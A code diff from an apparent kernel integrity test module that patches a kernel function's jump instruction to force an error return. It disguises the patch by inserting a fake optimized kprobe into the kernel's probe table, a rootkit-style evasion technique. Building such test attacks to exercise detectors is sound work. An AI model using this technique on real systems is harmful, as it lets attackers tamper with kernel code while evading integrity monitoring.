@@ -17,7 +17,7 @@ ATTACK_SYMBOL(single_open_size);
 static const u8 code[JMP32_INSN_SIZE] = {0x6a, 0xfb, 0x58, 0xc3, 0x90};
 static struct optimized_kprobe probe;
 static u8 *place;
-static u64 old;
+static u8 old[JMP32_INSN_SIZE];
 
 static u8 *find_jump(void)
 {
@@ -33,48 +33,35 @@ static u8 *find_jump(void)
 	return NULL;
 }
 
-/* In one store: a step between would show. */
-static int write_place(u64 value)
+/* Make the table say that @bytes are what comes back when the probe goes. */
+static int write_place(const u8 *bytes)
 {
-	u8 *alias = attack_alias(place);
-
-	if (!alias)
-		return -ENOMEM;
-	*(volatile u64 *)alias = value;
-	attack_unalias(alias);
-	return 0;
-}
-
-static int run(void)
-{
-	u64 value;
 	int r;
 
-	place = find_jump();
-	if (!place)
-		return -ENOENT;
-	probe.kp.addr = place;
-	probe.kp.opcode = code[0];
-	probe.kp.pre_handler = (void *)aggr_pre_handler_at;
-	probe.optinsn.insn = place;
-	memcpy(probe.optinsn.copied_insn, code + 1, sizeof(code) - 1);
+	probe.kp.opcode = bytes[0];
+	memcpy(probe.optinsn.copied_insn, bytes + 1, sizeof(code) - 1);
 	hlist_add_head_rcu(&probe.kp.hlist, (struct hlist_head *)kprobe_table_at);
-	memcpy(&old, place, sizeof(old));
-	value = old;
-	memcpy(&value, code, sizeof(code));
-	r = write_place(value);
+	r = attack_poke(place, bytes);
 	hlist_del_rcu(&probe.kp.hlist);
 	return r;
 }
 
+static int run(void)
+{
+	place = find_jump();
+	if (!place)
+		return -ENOENT;
+	probe.kp.addr = place;
+	probe.kp.pre_handler = (void *)aggr_pre_handler_at;
+	probe.optinsn.insn = place;
+	memcpy(old, place, sizeof(old));
+	return write_place(code);
+}
+
 static void undo(void)
 {
-	hlist_add_head_rcu(&probe.kp.hlist, (struct hlist_head *)kprobe_table_at);
-	probe.kp.opcode = ((u8 *)&old)[0];
-	memcpy(probe.optinsn.copied_insn, (u8 *)&old + 1, sizeof(code) - 1);
 	if (write_place(old))
 		pr_err("attack " KBUILD_MODNAME ": cannot be undone\n");
-	hlist_del_rcu(&probe.kp.hlist);
 	synchronize_rcu();
 }
 
